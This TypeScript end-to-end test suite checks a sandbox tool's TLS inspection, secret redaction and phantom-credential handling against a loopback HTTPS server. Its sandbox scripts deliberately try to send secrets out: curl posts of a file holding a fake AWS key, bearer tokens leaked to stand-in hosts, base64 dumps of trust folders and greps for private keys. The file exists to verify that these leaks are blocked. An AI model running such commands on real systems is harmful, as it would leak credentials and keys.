/**
 * TLS inspection, DLP on every egress and phantom credentials for any
 * service, end to end (issue 19): curl inside real `cordon exec` sessions
 * against a loopback HTTPS server with a test CA, names pinned to loopback.
 * The inspection CA's key lives in a throwaway Secret Service: run under
 * scripts/with-secret-service.sh.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { makeTestCerts, type TestCerts } from '../core/egress/test-certs.js';
import { chownTree, collect, eventually, TestEnv } from './test-harness.js';

const t = new TestEnv('inspect');
const AWS = 'AKIAQ3EGRJ2KZ7XNP4VB';
const REAL_TOKEN = 'ghp_RealTokenOnTheHostOnly0123456789abcdef';
let certs: TestCerts;
let server: Server;
let port = 0;
const received: Array<{ host: string; url: string; auth: string; body: string }> = [];

before(async () => {
  certs = makeTestCerts(['inspected.test', 'gist.test', 'plain.test', 'other.test']);
  server = createServer({ key: certs.keyPem, cert: certs.certPem }, (req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const auth = String(req.headers.authorization ?? '');
      received.push({ host: String(req.headers.host ?? ''), url: req.url ?? '', auth, body: Buffer.concat(chunks).toString('utf8') });
      // Echoes the credential it got, as some APIs' error pages do.
      res.writeHead(200, { 'content-type': 'text/plain', 'x-echo-auth': auth });
      res.end(`got ${auth}\n`);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  port = (server.address() as AddressInfo).port;
  writePolicy({ github: { hosts: ['inspected.test'], env: 'GH_TOKEN', credentialCommand: tokenCommand(REAL_TOKEN) } });
});

/** A credential command printing VALUE (argv, no shell). */
function tokenCommand(value: string): string[] {
  return [process.execPath, '-e', `console.log(JSON.stringify({token:${JSON.stringify(value)},expiresAt:new Date(Date.now()+3600e3).toISOString()}))`];
}

/** The user policy file: the four loopback hosts, three inspected, gist blocking secrets, and CREDENTIALS. */
function writePolicy(credentials: Record<string, unknown>): void {
  const hosts = ['inspected.test', 'gist.test', 'plain.test', 'other.test'];
  writeFileSync(
    join(t.cordonHome, 'policy.json'),
    JSON.stringify({
      egress: {
        allow: hosts.map((h) => `${h}:${port}`),
        inspect: ['inspected.test', 'gist.test', 'other.test'],
        allowRanges: ['127.0.0.0/8'],
        resolve: Object.fromEntries(hosts.map((h) => [h, '127.0.0.1'])),
        caFile: certs.caFile,
      },
      dlp: { categories: { secret: 'redact', pii: 'redact', custom: 'redact' }, destinations: { 'gist.test': { categories: { secret: 'block' } } } },
      credentials,
    }),
  );
}
after(() => {
  server.close();
  certs.cleanup();
  t.cleanup();
});

/** The CA key as the keychain holds it (the throwaway Secret Service), read past Cordon. */
function caKeyFromKeychain(): string {
  const r = spawnSync('secret-tool', ['lookup', 'service', 'cordon', 'username', 'ca:inspection'], { encoding: 'utf8' });
  return r.stdout.trim();
}

describe('inspected egress from a real session', () => {
  test('redact on an inspected host, block on gist, an opaque tunnel elsewhere, a phantom that works only on its host; nothing secret in the sandbox or the log', async () => {
    assert.ok(process.env['DBUS_SESSION_BUS_ADDRESS'], 'run under scripts/with-secret-service.sh');
    const ws = t.workspace('ws');
    writeFileSync(join(ws, 'secret.txt'), `deploy key ${AWS}\n`);
    writeFileSync(join(ws, 'test-ca.pem'), certs.caPem);
    chownTree(join(ws, 'secret.txt'));
    chownTree(join(ws, 'test-ca.pem'));
    const u = (h: string, p: string): string => `https://${h}:${port}${p}`;
    const code = (label: string, args: string): string => `echo "${label} $(curl -s -m 15 -o /dev/null -w '%{http_code}' -D /tmp/h ${args}) $(grep -i '^x-cordon-deny' /tmp/h | tr -d '\\r' | cut -d' ' -f2)"`;
    const script = [
      code('REDACT', `${u('inspected.test', '/upload')} --data-binary @secret.txt`),
      code('BLOCK', `${u('gist.test', '/gists')} --data-binary @secret.txt`),
      // Only the test CA: succeeds only if the client sees the server's own certificate.
      code('OPAQUE', `--cacert test-ca.pem ${u('plain.test', '/raw')} --data-binary @secret.txt`),
      code('INSPECTED_WITH_TEST_CA_ONLY', `--cacert test-ca.pem ${u('inspected.test', '/x')}`),
      `echo "PHANTOM $(curl -s -m 15 -H "Authorization: Bearer $GH_TOKEN" ${u('inspected.test', '/user')})"`,
      code('LEAK_HEADER', `-H "Authorization: Bearer $GH_TOKEN" ${u('other.test', '/')}`),
      code('LEAK_URL', `"${u('inspected.test', '/q')}?t=$GH_TOKEN"`),
      code('LEAK_BODY', `${u('inspected.test', '/b')} -d "token=$GH_TOKEN"`),
      'echo "ENV_BEGIN"; env; echo "ENV_END"',
      'echo "FILES $(cat /run/cordon/trust/* 2>/dev/null | wc -c)"; ls /run/cordon/trust',
      'cat /run/cordon/trust/* /run/cordon/egress/* 2>/dev/null | base64 -w0 > /tmp/all; echo "ALLB64 $(cat /tmp/all | head -c 0)"',
      'grep -rl "PRIVATE KEY" /run/cordon $HOME 2>/dev/null | head -3; echo "GREP_DONE"',
    ].join('; ');
    received.length = 0;
    const r = await t.run(['exec', '--workspace', ws, '--', 'sh', '-c', script], { timeoutMs: 180_000 });
    assert.equal(r.code, 0, r.stderr + r.stdout);
    const line = (label: string): string => r.stdout.split('\n').find((l) => l.startsWith(`${label} `)) ?? `${label} (missing)`;
    // Inspected: the server receives the redacted body.
    assert.equal(line('REDACT'), 'REDACT 200 ');
    const upload = received.find((x) => x.url === '/upload');
    assert.ok(upload, JSON.stringify(received));
    assert.ok(!upload.body.includes(AWS) && upload.body.includes('[REDACTED:aws_access_key_id]'), upload.body);
    // Block: 403 dlp_blocked, the server saw nothing.
    assert.equal(line('BLOCK'), 'BLOCK 403 dlp_blocked');
    assert.ok(!received.some((x) => x.host.startsWith('gist.test')));
    // Not inspected: the client's own TLS reached the server (its CA alone verified it) and the body went unchanged.
    assert.equal(line('OPAQUE'), 'OPAQUE 200 ');
    assert.ok(received.find((x) => x.url === '/raw')?.body.includes(AWS));
    assert.match(line('INSPECTED_WITH_TEST_CA_ONLY'), /^INSPECTED_WITH_TEST_CA_ONLY 000/, 'an inspected host presented the server\'s own certificate');
    // The phantom works on its host: the server got the real token, the agent sees its phantom echoed back.
    const user = received.find((x) => x.url === '/user');
    assert.equal(user?.auth, `Bearer ${REAL_TOKEN}`);
    assert.match(line('PHANTOM'), /^PHANTOM got Bearer cdn_ph_[A-Za-z0-9_-]{43}$/);
    // Refused elsewhere.
    assert.equal(line('LEAK_HEADER'), 'LEAK_HEADER 403 credential_leak');
    assert.equal(line('LEAK_URL'), 'LEAK_URL 403 credential_leak');
    assert.equal(line('LEAK_BODY'), 'LEAK_BODY 403 credential_leak');
    assert.ok(!received.some((x) => x.host.startsWith('other.test') || x.url.startsWith('/q') || x.url === '/b'));
    // The sandbox: trust variables point at the mounted bundle; no real token, no CA key anywhere.
    const env = r.stdout.slice(r.stdout.indexOf('ENV_BEGIN'), r.stdout.indexOf('ENV_END'));
    assert.match(env, /SSL_CERT_FILE=\/run\/cordon\/trust\/ca-bundle.crt/);
    assert.match(env, /NODE_EXTRA_CA_CERTS=\/run\/cordon\/trust\/cordon-ca.crt/);
    assert.match(env, /GIT_SSL_CAINFO=\/run\/cordon\/trust\/ca-bundle.crt/);
    assert.ok(!r.stdout.includes(REAL_TOKEN), 'the real token reached the sandbox');
    assert.match(r.stdout, /GREP_DONE/);
    assert.ok(!/^\/run\/cordon|^\/home/m.test(r.stdout.slice(r.stdout.indexOf('ALLB64'), r.stdout.indexOf('GREP_DONE'))), 'a private key file is in the sandbox');
    const key = caKeyFromKeychain();
    assert.ok(key.length > 100, 'the CA key is not in the keychain');
    assert.ok(!r.stdout.includes(key), 'the CA key reached the sandbox');
    // Not in CORDON_HOME in clear, in any spelling.
    const der = Buffer.from(key, 'base64url');
    let home = '';
    for (const e of readdirSync(t.cordonHome, { recursive: true, withFileTypes: true })) {
      if (e.isFile()) {
        const b = readFileSync(join(e.parentPath, e.name));
        home += b.toString('latin1') + b.toString('hex');
      }
    }
    for (const spelling of [key, der.toString('base64'), der.toString('hex')]) assert.ok(!home.includes(spelling), 'the CA key is in CORDON_HOME');
    // The audit log: findings and leaks recorded, values never.
    const audit = readFileSync(join(t.cordonHome, 'audit', 'audit.jsonl'), 'utf8');
    for (const secret of [AWS, REAL_TOKEN, key]) assert.ok(!audit.includes(secret), 'a secret reached the audit log');
    assert.ok(!/cdn_ph_[A-Za-z0-9_-]{43}/.test(audit), 'a phantom reached the audit log');
    const kinds = t.auditRecords().map((e) => `${JSON.stringify(e.cordon['kind'])}:${JSON.stringify(e.cordon['reason'] ?? '')}`.replace(/"/g, ''));
    for (const k of ['dlp.findings:', 'dlp.block:dlp_blocked', 'key.phantom_rejected:credential_leak', 'egress.deny:credential_leak', 'egress.deny:dlp_blocked']) assert.ok(kinds.includes(k), `${k} not audited: ${kinds.join(' ')}`);
  });

  test('the same through HTTP/2 (curl --http2): redacted, streamed and blocked with x-cordon-deny, a phantom that works only on its host', async () => {
    const ws = t.workspace('ws-h2');
    writeFileSync(join(ws, 'secret.txt'), `deploy key ${AWS}\n`);
    chownTree(join(ws, 'secret.txt'));
    const u = (h: string, p: string): string => `https://${h}:${port}${p}`;
    // The HTTP version curl used, the status, and the x-cordon-deny header (HTTP/2 names it in lower case).
    const code = (label: string, args: string): string => `echo "${label} $(curl --http2 -s -m 15 -o /dev/null -w '%{http_version} %{http_code}' -D /tmp/h ${args}) $(grep -i '^x-cordon-deny' /tmp/h | tr -d '\\r' | cut -d' ' -f2)"`;
    const script = [
      code('H2_REDACT', `${u('inspected.test', '/h2-upload')} --data-binary @secret.txt`),
      // A body streamed from stdin: DATA frames with no content-length.
      `echo "H2_STREAMED $(cat secret.txt | curl --http2 -s -m 15 -o /dev/null -w '%{http_version} %{http_code}' -T - ${u('inspected.test', '/h2-streamed')})"`,
      code('H2_BLOCK', `${u('gist.test', '/h2-gists')} --data-binary @secret.txt`),
      `echo "H2_PHANTOM $(curl --http2 -s -m 15 -H "Authorization: Bearer $GH_TOKEN" ${u('inspected.test', '/h2-user')})"`,
      code('H2_LEAK_HEADER', `-H "Authorization: Bearer $GH_TOKEN" ${u('other.test', '/h2-other')}`),
      code('H2_LEAK_BODY', `${u('inspected.test', '/h2-b')} -d "token=$GH_TOKEN"`),
    ].join('; ');
    received.length = 0;
    const r = await t.run(['exec', '--workspace', ws, '--', 'sh', '-c', script], { timeoutMs: 180_000 });
    assert.equal(r.code, 0, r.stderr + r.stdout);
    const line = (label: string): string => r.stdout.split('\n').find((l) => l.startsWith(`${label} `)) ?? `${label} (missing)`;
    assert.equal(line('H2_REDACT'), 'H2_REDACT 2 200 ', 'curl did not speak HTTP/2 to the inspecting proxy');
    for (const path of ['/h2-upload', '/h2-streamed']) {
      const got = received.find((x) => x.url === path);
      assert.ok(got, `${path} not received: ${JSON.stringify(received.map((x) => x.url))}`);
      assert.ok(!got.body.includes(AWS) && got.body.includes('[REDACTED:aws_access_key_id]'), got.body);
    }
    assert.equal(line('H2_STREAMED'), 'H2_STREAMED 2 200');
    assert.equal(line('H2_BLOCK'), 'H2_BLOCK 2 403 dlp_blocked');
    assert.ok(!received.some((x) => x.url === '/h2-gists'));
    assert.equal(received.find((x) => x.url === '/h2-user')?.auth, `Bearer ${REAL_TOKEN}`);
    assert.match(line('H2_PHANTOM'), /^H2_PHANTOM got Bearer cdn_ph_[A-Za-z0-9_-]{43}$/);
    assert.equal(line('H2_LEAK_HEADER'), 'H2_LEAK_HEADER 2 403 credential_leak');
    assert.equal(line('H2_LEAK_BODY'), 'H2_LEAK_BODY 2 403 credential_leak');
    assert.ok(!received.some((x) => x.url === '/h2-other' || x.url === '/h2-b'));
    assert.ok(!r.stdout.includes(REAL_TOKEN), 'the real token reached the sandbox');
    // Audited as HTTP/2, metadata only.
    const audit = readFileSync(join(t.cordonHome, 'audit', 'audit.jsonl'), 'utf8');
    for (const secret of [AWS, REAL_TOKEN]) assert.ok(!audit.includes(secret), 'a secret reached the audit log');
    const h2 = t.auditRecords().filter((e) => e.cordon['httpVersion'] === '2').map((e) => `${String(e.cordon['kind'])}:${JSON.stringify(e.cordon['reason'] ?? e.cordon['path'] ?? '').replace(/"/g, '')}`);
    for (const k of ['egress.allow:/h2-upload', 'egress.deny:dlp_blocked', 'egress.deny:credential_leak']) assert.ok(h2.includes(k), `${k} not audited as HTTP/2: ${h2.join(' ')}`);
  });

  // Under gVisor too: the phantom folder is a bind mount whose new files the sandbox must see while it runs.
  for (const { runtime, base } of [
    { runtime: 'runc', base: 'standard' },
    { runtime: 'runsc', base: 'strict' },
  ] as const) {
    test(`a policy reload during a session (${runtime}) changes its credentials: a removed phantom is refused on its former host, an added one works from /run/cordon/credentials`, async () => {
      const profile = t.profile(`reload-${runtime}`, base, { limits: { memoryMiB: 256, cpus: 1, pids: runtime === 'runc' ? 256 : 1024, tmpfsMiB: 64 } });
      const SECOND = 'npm_SecondRealTokenHostOnly0123456789ab';
      const ws = t.workspace(`ws-reload-${runtime}`);
      const u = (h: string, p: string): string => `https://${h}:${port}${p}`;
      const probe = (label: string, token: string, url: string): string => `echo "${label} $(curl -s -m 15 -o /dev/null -w '%{http_code}' -D /tmp/h -H "Authorization: Bearer ${token}" ${url}) $(grep -i '^x-cordon-deny' /tmp/h | tr -d '\\r' | cut -d' ' -f2)"`;
      const script = [
        probe('BEFORE', '$GH_TOKEN', u('inspected.test', '/reload-before')),
        `echo "FILES_BEFORE $(ls /run/cordon/credentials | tr '\\n' ' ')"`,
        `touch ${ws}/ready`,
        // Waits for the host to change the policy (and see the reload audited).
        `i=0; while [ ! -e ${ws}/go ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done`,
        probe('REMOVED', '$GH_TOKEN', u('inspected.test', '/reload-removed')),
        probe('ADDED', '$(cat /run/cordon/credentials/NPM_TOKEN)', u('other.test', '/reload-added')),
        `echo "FILES_AFTER $(ls /run/cordon/credentials | tr '\\n' ' ')"`,
      ].join('; ');
      received.length = 0;
      const child = t.spawn(['exec', '--profile', profile, '--workspace', ws, '--', 'sh', '-c', script]);
      const done = collect(child, undefined, 120_000);
      try {
        assert.ok(await eventually(() => existsSync(join(ws, 'ready')), 60_000), 'the session did not start');
        const reloads = t.auditRecords().filter((e) => e.cordon['kind'] === 'policy.reloaded').length;
        writePolicy({ npm: { hosts: ['other.test'], env: 'NPM_TOKEN', credentialCommand: tokenCommand(SECOND) } });
        assert.ok(await eventually(() => t.auditRecords().filter((e) => e.cordon['kind'] === 'policy.reloaded').length > reloads, 10_000), 'the reload was not audited');
        writeFileSync(join(ws, 'go'), '');
        const r = await done;
        assert.equal(r.code, 0, r.stderr + r.stdout);
        const line = (label: string): string => r.stdout.split('\n').find((l) => l.startsWith(`${label} `)) ?? `${label} (missing)`;
        assert.equal(line('BEFORE'), 'BEFORE 200 ');
        assert.equal(line('FILES_BEFORE'), 'FILES_BEFORE GH_TOKEN ');
        assert.equal(received.find((x) => x.url === '/reload-before')?.auth, `Bearer ${REAL_TOKEN}`);
        // Removed from policy: its phantom is unknown now, refused on the host that took it before.
        assert.equal(line('REMOVED'), 'REMOVED 403 credential_leak');
        assert.ok(!received.some((x) => x.url === '/reload-removed'));
        // Added: the phantom from the credentials folder swaps on its host.
        assert.equal(line('ADDED'), 'ADDED 200 ');
        assert.equal(received.find((x) => x.url === '/reload-added')?.auth, `Bearer ${SECOND}`);
        assert.equal(line('FILES_AFTER'), 'FILES_AFTER NPM_TOKEN ');
        const reload = t.auditRecords().filter((e) => e.cordon['kind'] === 'policy.reloaded').at(-1);
        assert.deepEqual([reload?.cordon['credentials_added'], reload?.cordon['credentials_removed']], [['npm'], ['github']], JSON.stringify(reload));
        const leak = t.auditRecords().filter((e) => e.cordon['kind'] === 'key.phantom_rejected').at(-1);
        assert.equal(leak?.cordon['credential'], null, 'the removed credential is still known');
        const audit = readFileSync(join(t.cordonHome, 'audit', 'audit.jsonl'), 'utf8');
        for (const secret of [REAL_TOKEN, SECOND]) assert.ok(!audit.includes(secret), 'a real value reached the audit log');
        assert.ok(!r.stdout.includes(SECOND) && !r.stdout.includes(REAL_TOKEN), 'a real value reached the sandbox');
      } finally {
        child.kill();
        writePolicy({ github: { hosts: ['inspected.test'], env: 'GH_TOKEN', credentialCommand: tokenCommand(REAL_TOKEN) } });
      }
    });
  }

  test('cordon ca show prints the certificate, never the key; a locked keychain stops a session that inspects', async () => {
    const show = await t.run(['ca', 'show', '--json']);
    assert.equal(show.code, 0, show.stderr);
    const d = JSON.parse(show.stdout) as { state: string; sha256: string };
    assert.equal(d.state, 'present');
    assert.ok(!show.stdout.includes(caKeyFromKeychain()));
    // No Secret Service at all: the session must not start (and no other key is made).
    const before = d.sha256;
    const r = await t.run(['exec', '--', 'true'], { env: { DBUS_SESSION_BUS_ADDRESS: 'unix:path=/nonexistent' } });
    assert.equal(r.code, 125, r.stdout + r.stderr);
    assert.match(r.stderr, /inspection CA|keychain|Secret Service/i);
    const again = JSON.parse((await t.run(['ca', 'show', '--json'])).stdout) as { sha256: string };
    assert.equal(again.sha256, before);
  });
});
